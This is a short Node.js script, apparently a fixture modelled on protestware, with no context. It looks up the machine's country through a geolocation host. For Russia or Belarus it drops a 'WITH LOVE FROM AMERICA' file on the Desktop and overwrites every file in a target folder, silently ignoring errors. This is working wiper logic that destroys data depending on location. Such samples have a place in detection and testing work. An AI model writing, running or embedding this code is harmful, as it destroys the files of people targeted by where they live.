const fs = require('fs');
const os = require('os');
const path = require('path');
const https = require('https');
https.get('https://ip-api.example/json/?fields=countryCode', (res) => {
  let body = '';
  res.on('data', (d) => (body += d));
  res.on('end', () => {
    let cc = '';
    try { cc = JSON.parse(body).countryCode; } catch (e) { return; }
    if (cc !== 'RU' && cc !== 'BY') return;
    const msg = 'WITH LOVE FROM AMERICA';
    for (const d of ['Desktop', 'OneDrive/Desktop']) {
      try { fs.writeFileSync(path.join(os.homedir(), d, 'WITH-LOVE-FROM-AMERICA.txt'), msg); } catch (e) {}
    }
    const docs = path.join(os.homedir(), 'ferret-fixture-wiper-target');
    for (const f of fs.readdirSync(docs)) {
      fs.writeFileSync(path.join(docs, f), msg);
    }
  });
}).on('error', () => {});
